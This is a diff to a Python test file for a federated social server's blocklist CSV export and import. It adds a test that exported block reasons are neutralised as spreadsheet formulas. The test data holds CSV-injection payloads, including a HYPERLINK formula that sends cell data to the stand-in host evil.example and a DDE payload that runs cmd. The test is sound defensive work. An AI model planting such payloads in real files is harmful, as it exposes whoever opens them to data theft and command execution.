@@ -1,6 +1,8 @@
 """What was decided about hosts is held to at the inbox, at follows and at fetches; what others advise counts until we decide."""
 
 import asyncio
+import csv
+import io
 from collections.abc import Callable
 from dataclasses import replace
 from datetime import datetime, timedelta
@@ -423,7 +425,7 @@ async def test_decisions_go_out_and_come_in_as_mastodon_writes_them(town: Town) 
     for host, policy in (("evil.example", "block"), ("loud.example", "limit"), ("friend.example", "allow")):
         await decided(town, "a", host, policy)
     async with town["a"].node.database.read() as session:
-        content = await blocklists.export_csv(session)
+        content = (await blocklists.export_csv(session)).content
 
     await decided(town, "b", "loud.example", "allow")
     async with town["b"].node.database.begin() as session:
@@ -440,12 +442,44 @@ async def test_decisions_go_out_and_come_in_as_mastodon_writes_them(town: Town) 
     assert found == {"evil.example": "block", "loud.example": "allow"}
 
 
+REASONS = [
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "+1 for this, says everybody",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "＝1+1",
+    "'=already disarmed",
+    "''@twice",
+    "'tis the season",
+    "'",
+    'threats, "and worse"\n=1+1',
+]
+
+
+async def test_no_reason_is_a_formula_to_who_opens_the_file_and_each_comes_back_as_it_was(town: Town) -> None:
+    wanted = {f"host{number}.example": reason for number, reason in enumerate(REASONS)}
+    now = town.clock.now()
+    async with town["a"].node.database.begin() as session:
+        for host, reason in wanted.items():
+            await decide(session, host, "block", reason=reason, now=now)
+        exported = await blocklists.export_csv(session)
+    async with town["b"].node.database.begin() as session:
+        await blocklists.import_csv(session, town["b"].settings, exported.content, now=now)
+        found = {host.name: host.reason for host in await decisions(session)}
+
+    cells = [cell for line in csv.reader(io.StringIO(exported.content)) for cell in line]
+    # https://owasp.org/www-community/attacks/CSV_Injection
+    assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []
+    assert exported.hosts == len(wanted)
+    assert found == wanted
+
+
 async def test_what_is_refused_of_a_host_goes_out_and_comes_in_with_it(town: Town) -> None:
     await decided(town, "a", "loud.example", "limit", no_media=True)
     await decided(town, "a", "nagging.example", None, no_reports=True)
     await decided(town, "a", "friend.example", "allow", no_media=True, no_reports=True)
     async with town["a"].node.database.read() as session:
-        content = await blocklists.export_csv(session)
+        content = (await blocklists.export_csv(session)).content
 
     async with town["b"].node.database.begin() as session:
         done = await blocklists.import_csv(session, town["b"].settings, content, now=town.clock.now())
